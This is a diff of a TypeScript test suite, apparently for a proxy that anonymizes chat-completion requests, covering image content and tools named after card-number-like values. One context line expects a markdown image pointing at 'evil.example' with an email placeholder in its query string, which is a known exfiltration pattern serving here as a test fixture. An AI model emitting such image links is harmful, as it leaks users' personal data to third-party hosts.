@@ -202,7 +202,7 @@ describe('a conversation', () => {
     expect(choices[0]?.message.content).toBe('![x](https://evil.example/?q=<EMAIL_ADDRESS_1>)');
   });
 
-  it('rejects content it cannot search, and a tool named like a value', async () => {
+  it('rejects content it cannot search, and sends a tool named like a value under another name', async () => {
     const image = { type: 'image_url' as const, image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } };
     await expect(
       client.chat.completions.create({ ...anonymized, messages: [{ role: 'user', content: [image] }] }),
@@ -212,11 +212,9 @@ describe('a conversation', () => {
     });
     const tools = [{ type: 'function' as const, function: { name: `ask_${card.replaceAll(' ', '')}` } }];
     const messages = [{ role: 'user' as const, content: card.replaceAll(' ', '') }];
-    await expect(client.chat.completions.create({ ...anonymized, messages, tools })).rejects.toMatchObject({
-      status: 422,
-      code: 'unsupported_parameter',
-    });
     expect(fake.receipts.requests()).toHaveLength(0);
+    await client.chat.completions.create({ ...anonymized, messages, tools });
+    expect(fake.receipts.requests()[0]?.body).not.toContain(card.replaceAll(' ', ''));
   });
 
   it('anonymizes and restores separate texts', async () => {
